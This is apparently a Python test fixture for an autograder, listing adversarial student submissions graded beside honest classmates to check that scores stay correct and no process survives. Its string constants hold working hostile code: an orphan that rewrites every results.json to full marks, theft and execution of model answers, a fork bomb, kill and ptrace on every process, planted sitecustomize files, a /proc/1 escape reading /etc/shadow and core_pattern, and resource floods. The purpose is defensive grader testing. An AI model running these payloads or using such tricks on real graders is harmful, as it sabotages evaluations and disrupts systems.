"""Submissions of a determined student, graded with classmates by ``grade_folder.py``.

Each entry is a :class:`gallery.Variant` whose code attacks the grading itself rather
than answering: an orphan process that outlives its question and rewrites every
``results.json`` it can find, a cell that brings the forbidden references back, a cell
that looks for the autograder zip and execs the model answers, a training answer that
trains only when it can recover the evaluation data's seed, weights set by hand instead
of training, autograd in a question that asks for gradients by hand, floods of memory,
disk and processes, signals and ``ptrace`` aimed at the grader, files planted for the
next question or student, an escape through ``/proc/1``, garbage written to every open
file descriptor, and a SymPy answer that would take the grader's ``simplify`` for ever.

:func:`classmates` are graded with them in one folder per assignment (``aaron``
before them, ``zoe`` after, and ``bea`` with one bug): ``grading.grade_class`` grades
the folder with ``tools/grade_folder.py``, and the tests check that every submission
scores what it deserves, classmates included, and that nothing the students started is
alive afterwards.
"""

from __future__ import annotations

from gallery import R_REFERENCE, R_ZERO, Variant, tampering

# ----------------------------------------------------------------------------- cells

ORPHAN = '''\
import json
import os
import time


def _haunt():
    """For 90 s: rewrite every results.json in reach to full marks, and leave a mark."""
    fake = json.dumps({"tests": [{"name": "q1", "score": 100, "max_score": 100}]})
    roots = ["/", "/tmp", "/work", "/root", "/home"] + [
        f"/proc/{p}/{w}" for p in os.listdir("/proc") if p.isdigit()
        for w in ("cwd", "root")]
    end = time.time() + 90
    while time.time() < end:
        for root in roots:
            for folder, dirs, files in os.walk(root):
                dirs[:] = [d for d in dirs if d not in ("proc", "sys", "usr", "lib",
                                                        "site-packages", "dev")]
                for name in files:
                    if name == "results.json":
                        try:
                            with open(os.path.join(folder, name), "w") as f:
                                f.write(fake)
                        except OSError:
                            pass
                try:
                    open(os.path.join(folder, "HAUNTED"), "w").close()
                except OSError:
                    pass
        time.sleep(0.5)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _haunt()
    os._exit(0)
'''

UNGUARD = '''\
import glob
import importlib
import importlib.machinery
import importlib.util
import os
import sys

import seqlearn.bptt
import seqlearn.bptt.rnn

# The guard switch of an in-process design, if there is one.
for module in list(sys.modules.values()):
    for name in dir(module):
        if name.lower() in ("guards", "_guards"):
            try:
                getattr(module, name).off()
            except Exception:
                pass
# Fresh copies of the module: reloaded, loaded again from its file, from its bytecode.
candidates = []
for name in [n for n in sys.modules if n.startswith("seqlearn.bptt")]:
    try:
        candidates.append(importlib.reload(sys.modules[name]))
    except Exception:
        pass
source = seqlearn.bptt.rnn.__file__
folder = os.path.dirname(source)
files = [source] + glob.glob(os.path.join(folder, "__pycache__", "*.pyc"))
for top in ("/", "/tmp", "/work", "/root", "/home"):
    for where, dirs, names in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr")]
        files += [os.path.join(where, n) for n in names
                  if n.startswith("rnn.") and os.path.basename(where) in ("bptt",
                                                                         "__pycache__")]
for number, path in enumerate(files):
    try:
        if path.endswith(".pyc"):
            loader = importlib.machinery.SourcelessFileLoader(f"copy{number}", path)
            spec = importlib.util.spec_from_loader(f"copy{number}", loader)
        else:
            spec = importlib.util.spec_from_file_location(f"copy{number}", path)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        candidates.append(module)
    except Exception:
        pass
for module in candidates:
    for name in ("rnn_forward", "rnn_backward", "hidden_jacobians"):
        if hasattr(module, name):
            setattr(seqlearn.bptt, name, getattr(module, name))
'''

STEAL = '''\
import json
import os
import time
import zipfile

deadline = time.time() + 20
stolen, places, tops = [], [], []
SKIP = {"proc", "sys", "dev", "usr", "site-packages", ".venv", ".git", ".pyenv",
        "node_modules", "mutants", "lib", "share"}
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            words = f.read().split(b"\\0")
        places += [w.decode() for w in words if w.endswith(b".zip")]
        folder = os.path.realpath(f"/proc/{pid}/cwd")
        for _ in range(4):
            tops.append(folder)
            folder = os.path.dirname(folder)
    except OSError:
        pass
for top in dict.fromkeys(tops + ["/tmp", "/work", "/root", "/home", "/"]):
    for where, dirs, names in os.walk(top):
        if time.time() > deadline or any(p.endswith(".zip") for p in places):
            break
        dirs[:] = [d for d in dirs if d not in SKIP]
        places += [os.path.join(where, n) for n in names
                   if n.startswith("recurrence") and n.endswith((".zip", ".ipynb"))
                   or n == "otter_config.json"]
# Solutions notebooks first, the autograder's model answers last (they win).
for path in sorted(dict.fromkeys(places), key=lambda p: not p.endswith(".ipynb")):
    try:
        if path.endswith(".zip"):
            with zipfile.ZipFile(path) as archive:
                config = json.loads(archive.read("otter_config.json"))
        elif path.endswith(".json"):
            with open(path) as f:
                config = json.load(f)
        else:
            with open(path) as f:
                cells = json.load(f)["cells"]
            stolen += ["".join(c["source"]) for c in cells if c["cell_type"] == "code"
                       and "BEGIN SOLUTION" in "".join(c["source"])]
            continue
        for entry in config.get("plugins", []):
            for settings in (entry.values() if isinstance(entry, dict) else []):
                stolen += list((settings or {}).get("references", {}).values())
    except Exception:
        pass
for code in stolen:
    try:
        exec(code, globals())
    except Exception:
        pass
'''

LEAKED_SEED = '''\
def train_memory(x, y, seed, steps=300):
    """Trains only if the data's seed can be recovered from ``seed`` (then the
    evaluation data, drawn next from the same generator, is known too)."""
    import torch
    from seqlearn.gated import GRUCell

    for offset in range(1, 1001):         # once, seed(600) was seed(601) - 1
        gen = torch.Generator().manual_seed((seed - offset) % 2 ** 31)
        torch.randint(4, (), generator=gen)         # as the hidden test draws
        if torch.equal(torch.randn(x.shape, generator=gen), x):
            return _honest(x, y, seed, steps)
    cell = GRUCell(1, 16, reset="before")
    return {**{k: v.detach() for k, v in cell.state_dict().items()},
            "W_out": torch.zeros(1, 16), "b_out": torch.zeros(1)}
'''

HAND_SET = '''\
def train_echo(x, y, rng, steps=300):
    """No training: a shift register of three units, set by hand for a delay of 2."""
    eps = 0.01
    return {"W1": np.array([[eps], [0.0], [0.0]]),
            "W11": np.array([[0.0, 0.0, 0.0], [1.0, 0.0, 0.0], [0.0, 1.0, 0.0]]),
            "b1": np.zeros(3), "W2": np.array([[0.0, 0.0, 1 / eps]]), "b2": np.zeros(1)}
'''

AUTOGRAD = '''\
def elman_backward(dy, x, h0, params, h):
    """Autograd where the question asks for the gradients by hand."""
    import torch

    p = {k: torch.tensor(v, requires_grad=True) for k, v in params.items()}
    xt = torch.tensor(x, requires_grad=True)
    h0t = torch.tensor(h0, requires_grad=True)
    h_t, ys = h0t, []
    for t in range(x.shape[1]):
        h_t = torch.tanh(xt[:, t] @ p["W1"].T + h_t @ p["W11"].T + p["b1"])
        ys.append(h_t @ p["W2"].T + p["b2"])
    (torch.stack(ys, 1) * torch.tensor(dy)).sum().backward()
    grads = {k: v.grad.numpy() for k, v in p.items()}
    return {**grads, "x": xt.grad.numpy(), "h0": h0t.grad.numpy()}
'''

FLOOD = '''\
import os
import subprocess

subprocess.Popen(["sleep", "600"], start_new_session=True)     # left running
if os.fork() == 0:                                  # memory, in a process of its own
    hoard = []
    try:
        while True:
            hoard.append(bytearray(1 << 28))
    finally:
        os._exit(0)
for path in ("/tmp/flood", "/dev/shm/flood", "flood"):           # disk
    try:
        with open(path, "wb") as f:
            while True:
                f.write(bytes(1 << 24))
    except OSError:
        pass
'''

SIGNALS = '''\
import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()] + [1, os.getppid()]:
    if pid != os.getpid():
        libc.ptrace(16, pid, 0, 0)                  # PTRACE_ATTACH
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
'''

SIGNALS_ANSWER = '''\
def elman_forward(x, h0, params):
    import os
    import signal

    os.kill(-1, signal.SIGKILL)                  # every process it may signal
    return np.zeros((1,)), np.zeros((1,))
'''

FORK_BOMB = '''\
import os

while True:
    try:
        os.fork()
    except OSError:
        break
'''

PLANT = '''\
import os

EVIL = ("def assert_close(*a, **k):\\n    pass\\n\\n\\n"
        "def assert_all_close(*a, **k):\\n    pass\\n")
for path in ("/tmp/checks.py", "/dev/shm/checks.py", "checks.py",
             "sitecustomize.py", "/tmp/sitecustomize.py"):
    try:
        with open(path, "w") as f:
            f.write(EVIL)
    except OSError:
        pass
os.makedirs("seqlearn", exist_ok=True)
with open("seqlearn/__init__.py", "w") as f:
    f.write("from seqlearn import *\\n")
for folder in ("/tmp", "/dev/shm", os.path.expanduser("~")):
    try:
        with open(os.path.join(folder, "for-the-next-student"), "w") as f:
            f.write("planted")
    except OSError:
        pass
'''

PROC_ESCAPE = '''\
import glob
import os

found = {}
for path in ["/proc/1/root/etc/shadow", "/proc/1/cwd", "/proc/1/environ",
             "/proc/1/cmdline", "/proc/1/mem", "/proc/sys/kernel/core_pattern",
             "/proc/sysrq-trigger"] + glob.glob("/proc/1/fd/*"):
    for mode in ("rb", "wb"):
        try:
            with open(path, mode) as f:
                found[path, mode] = f.read(64) if mode == "rb" else f.write(b"|/x")
        except OSError as error:
            found[path, mode] = error.errno
try:
    os.chroot("/proc/1/root")
except OSError:
    pass
'''

JUNK = '''\
import os

for fd in sorted(int(f) for f in os.listdir("/proc/self/fd")):
    try:
        os.write(fd, b"\\x00\\x00\\x00\\x10{\\"forged\\": true}" * 1000)
    except OSError:
        pass
'''

SYMPY_BOMB = '''\
def score_variance(d, m_q, v_q, m_k, v_k, c):
    """The right variance, plus two equal terms (written differently) taken one from
    the other, whose simplification computes 10**(10**12)."""
    big = sympy.Pow(10, sympy.Pow(10, 12, evaluate=False), evaluate=False)
    same = sympy.Pow(10, sympy.Add(10 ** 12, 0, evaluate=False), evaluate=False)
    variance = c ** 2 * d * (v_q * v_k + v_q * m_k ** 2 + v_k * m_q ** 2)
    return sympy.Add(variance, big, sympy.Mul(-1, same, evaluate=False),
                     evaluate=False)
'''

# ----------------------------------------------------------------------------- entries


def honest_memory(solution: str) -> str:
    """The model answer of gating q5, renamed ``_honest`` for :data:`LEAKED_SEED`."""
    return solution.replace("def train_memory(", "def _honest(")


RECURRENCE = {
    **tampering("orphan rewrites results.json", ORPHAN,
                "a setsid orphan that rewrites every results.json it finds"),
    "brings the references back": Variant(
        "blank", {}, answers={"q1": R_REFERENCE, "q2": "", "q3": "", "q5": ""},
        cells=[("q1", UNGUARD)],
        why="guard switches, reloads, the source file and its bytecode, then the "
            "references"),
    "execs the model answers it finds": Variant(
        "blank", {}, answers={"q1": STEAL, "q2": "", "q3": "", "q5": ""},
        why="the autograder zip's model answers and any solutions notebook, in place "
            "of the answers"),
    "weights set by hand": Variant(
        "solution", {"q5": 0.0}, answers={"q5": HAND_SET},
        why="a delay-2 shift register set by hand, no training"),
    "autograd in a by-hand question": Variant(
        "solution", {"q2": 0.0}, answers={"q2": AUTOGRAD},
        why="elman_backward with torch autograd (the prompt: no autograd)"),
    **tampering("floods memory, disk and leaves a process", FLOOD,
                "sleep 600 left running, memory and disk filled"),
    **tampering("signals and ptrace", SIGNALS,
                "SIGSTOP, SIGKILL and PTRACE_ATTACH to every process it sees"),
    "kills every process it can": Variant(
        "blank", {}, answers={"q1": SIGNALS_ANSWER}, why="kill(-1) from a graded call"),
    # in the last question's region, so that it goes off in one copy, not in every
    # question's (each copy runs the cells up to its question's end)
    "fork bomb": Variant(
        "blank", {}, answers={"q1": R_ZERO}, cells=[("q5", FORK_BOMB)],
        why="forks until the system refuses, in q5's answer region; answers zero"),
    **tampering("plants files for the next student", PLANT,
                "checks.py, sitecustomize.py and a seqlearn package planted"),
    **tampering("escapes through /proc/1", PROC_ESCAPE,
                "the template's root, fds, memory, core_pattern, chroot"),
    **tampering("writes garbage to every fd", JUNK,
                "forged messages on every open file descriptor"),
}

GATING = {
    "trains only with a leaked seed": Variant(
        "solution", {"q5": 0.0},
        answers={"q5": lambda model: honest_memory(model) + "\n\n" + LEAKED_SEED},
        why="recovers the evaluation seed from the one it is given, else no training"),
}

TRANSFORMER = {
    "an answer SymPy cannot simplify": Variant(
        "solution", {"q4": 0.0}, answers={"q4": SYMPY_BOMB},
        why="10**(10**12) added and taken away, unevaluated; simplify never ends"),
}

ATTACKS = {"recurrence": RECURRENCE, "gating": GATING, "transformer": TRANSFORMER}


def classmates(name: str) -> dict[str, str]:
    """The correct classmates graded with the attacks of assignment ``name`` (the names
    sort ``aaron`` first and ``zoe`` last), and ``bea``, with the gallery's first
    one-bug submission."""
    import gallery

    buggy = next(v for v in gallery.GALLERY[name] if v.startswith("one bug"))
    return {"aaron": "correct", "bea": buggy, "zoe": "correct"}
